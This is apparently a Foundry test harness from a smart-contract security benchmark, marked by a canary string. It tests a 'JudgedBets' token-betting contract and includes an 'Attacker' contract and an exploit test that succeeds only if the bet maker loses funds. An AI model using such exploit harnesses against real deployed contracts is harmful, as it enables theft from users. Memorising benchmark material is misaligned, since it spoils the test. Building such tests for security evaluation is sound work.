// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./JudgedBets.sol";

// assay-canary-da4f7797-0c7f-4fac-bae5-5d3f29c5759f

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Coin is ERC20 {
    constructor() ERC20("Coin", "COIN") {
        _mint(msg.sender, 10_000e18);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant JUDGE = address(0x106E);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant START = 1_766_000_000;

    Coin private token;
    JudgedBets private bets;
    Attacker private mallory;

    function setUp() public {
        vm.warp(START);
        token = new Coin();
        bets = new JudgedBets(token);
        address[2] memory all = [ANA, BEN];
        for (uint256 i = 0; i < 2; i++) {
            token.transfer(all[i], 1_000e18);
            vm.prank(all[i]);
            token.approve(address(bets), type(uint256).max);
        }
        mallory = new Attacker(bets, token);
        token.transfer(address(mallory), 300e18);
        vm.startPrank(ANA);
        bets.offer(JUDGE, 200e18, 300e18, START + 10 days, "It rains on Sunday.");
        bets.offer(JUDGE, 100e18, 100e18, START + 10 days, "It snows on Sunday.");
        vm.stopPrank();
        mallory.take(0);
    }

    function wrong(uint256 bet) private view returns (bytes memory) {
        (,,,,,, JudgedBets.State state) = bets.bets(bet);
        return abi.encodeWithSelector(JudgedBets.WrongState.selector, bet, state);
    }

    function refused(uint256 bet, address who) private pure returns (bytes memory) {
        return abi.encodeWithSelector(JudgedBets.NotAllowed.selector, bet, who);
    }

    function test_Regular() public {
        vm.prank(JUDGE);
        bets.judge(0, true);
        vm.startPrank(ANA);
        require(bets.withdraw() == 500e18 && token.balanceOf(ANA) == 1_200e18, "won");
        bets.callOff(1);
        require(bets.withdraw() == 100e18, "nobody took it");
        uint256 next = bets.offer(JUDGE, 10e18, 20e18, START + 5 days, "It hails on Monday.");
        uint256 last = bets.offer(JUDGE, 30e18, 40e18, START + 5 days, "It is dry on Monday.");
        vm.stopPrank();
        vm.startPrank(BEN);
        bets.take(next);
        bets.take(last);
        vm.stopPrank();
        vm.prank(JUDGE);
        bets.judge(next, false);
        vm.warp(START + 5 days);
        bets.callOff(last);
        vm.prank(BEN);
        require(bets.withdraw() == 70e18, "won one, one called off");
        vm.prank(ANA);
        require(bets.withdraw() == 30e18, "called off");
        require(token.balanceOf(address(bets)) == 0, "nothing is left");
    }

    function test_RefusesOffers() public {
        vm.startPrank(ANA);
        vm.expectRevert(JudgedBets.InvalidBet.selector);
        bets.offer(address(0), 1, 1, START + 1, "");
        vm.expectRevert(JudgedBets.InvalidBet.selector);
        bets.offer(ANA, 1, 1, START + 1, "");
        vm.expectRevert(JudgedBets.InvalidBet.selector);
        bets.offer(JUDGE, 0, 1, START + 1, "");
        vm.expectRevert(JudgedBets.InvalidBet.selector);
        bets.offer(JUDGE, 1, 0, START + 1, "");
        vm.expectRevert(JudgedBets.InvalidBet.selector);
        bets.offer(JUDGE, 1, 1, START, "");
        vm.stopPrank();
        vm.prank(BEN);
        vm.expectRevert(wrong(0));
        bets.take(0);
        vm.prank(JUDGE);
        vm.expectRevert(refused(1, JUDGE));
        bets.take(1);
        vm.expectRevert(abi.encodeWithSelector(Credits.NothingOwed.selector, address(0)));
        new JudgedBets(IERC20(address(0)));
    }

    function test_RefusesJudgements() public {
        vm.startPrank(JUDGE);
        vm.expectRevert(wrong(1));
        bets.judge(1, true);
        bets.judge(0, true);
        vm.expectRevert(wrong(0));
        bets.judge(0, true);
        vm.stopPrank();
        vm.prank(BEN);
        bets.take(1);
        vm.expectRevert(refused(1, address(this)));
        bets.judge(1, true);
        vm.warp(START + 10 days);
        vm.prank(JUDGE);
        vm.expectRevert(abi.encodeWithSelector(JudgedBets.TooLate.selector, START + 10 days));
        bets.judge(1, true);
    }

    function test_RefusesLateTakers() public {
        vm.warp(START + 10 days);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(JudgedBets.TooLate.selector, START + 10 days));
        bets.take(1);
    }

    function test_RefusesToCallOff() public {
        vm.prank(ANA);
        vm.expectRevert(refused(0, ANA));
        bets.callOff(0);
        vm.prank(BEN);
        vm.expectRevert(refused(1, BEN));
        bets.callOff(1);
        vm.prank(JUDGE);
        bets.judge(0, true);
        vm.warp(START + 10 days);
        vm.expectRevert(wrong(0));
        bets.callOff(0);
        bets.callOff(1);
        vm.expectRevert(wrong(1));
        bets.callOff(1);
        vm.expectRevert(abi.encodeWithSelector(Credits.NothingOwed.selector, address(this)));
        bets.withdraw();
    }

    /// What the maker has, and gets when the judge speaks for it.
    function makersPart() public view returns (uint256 part) {
        (,,, uint256 own, uint256 other, uint256 deadline, JudgedBets.State state) = bets.bets(0);
        if (block.timestamp >= deadline) return 1_200e18; // the judge was silent, and the bet may be called off
        part = token.balanceOf(ANA) + bets.credits(ANA);
        if (state == JudgedBets.State.Taken) part += own + other;
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        exploit();
        require(makersPart() <= 910e18 && token.balanceOf(address(mallory)) == 300e18, "the maker lost nothing");
    }

    function target() public view returns (address) {
        return address(bets);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    JudgedBets private bets;
    Coin private token;

    constructor(JudgedBets b, Coin t) {
        bets = b;
        token = t;
    }

    function take(uint256 bet) external {
        token.approve(address(bets), 300e18);
        bets.take(bet);
    }

    function run() external {
        bets.callOff(0);
        bets.withdraw();
    }
}
